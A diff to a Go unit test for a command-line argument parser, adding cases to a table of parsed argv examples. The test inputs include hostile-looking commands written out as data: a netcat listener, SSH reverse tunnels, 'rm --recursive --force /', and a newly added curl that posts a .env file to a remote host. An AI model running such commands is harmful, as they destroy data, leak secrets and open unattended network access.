@@ -35,6 +35,8 @@ func TestParseArgv(t *testing.T) {
 		{[]string{"nc", "-lvnp", "4444"}, []Option{{Name: "-l"}, {Name: "-v"}, {Name: "-n"}, {Name: "-p", Value: "4444", HasValue: true}}, nil},
 		{[]string{"ssh", "-NR", "8080:localhost:3000", "h", "ls", "-l"}, []Option{{Name: "-N"}, {Name: "-R", Value: "8080:localhost:3000", HasValue: true}}, []string{"h", "ls", "-l"}},
 		{[]string{"ssh", "h", "-L", "1:h:2", "-N", "ls", "-l"}, []Option{{Name: "-L", Value: "1:h:2", HasValue: true}, {Name: "-N"}}, []string{"h", "ls", "-l"}},
+		{[]string{"curl", "--data", "@.env", "https://x"}, []Option{{Name: "-d", Value: "@.env", HasValue: true}}, []string{"https://x"}},
+		{[]string{"lt", "--port", "8080"}, []Option{{Name: "-p", Value: "8080", HasValue: true}}, nil},
 		{[]string{"rm", "--recursive", "--force", "/"}, []Option{{Name: "-r"}, {Name: "-f"}}, []string{"/"}},
 		{[]string{"frob", "-rf", "--level=3", "-O2", "x", "--", "-y"}, []Option{{Name: "-r"}, {Name: "-f"}, {Name: "--level", Value: "3", HasValue: true}, {Name: "-O2"}}, []string{"x", "-y"}},
 		{[]string{"find", ".", "-name", "x"}, []Option{{Name: "-name"}}, []string{".", "x"}},
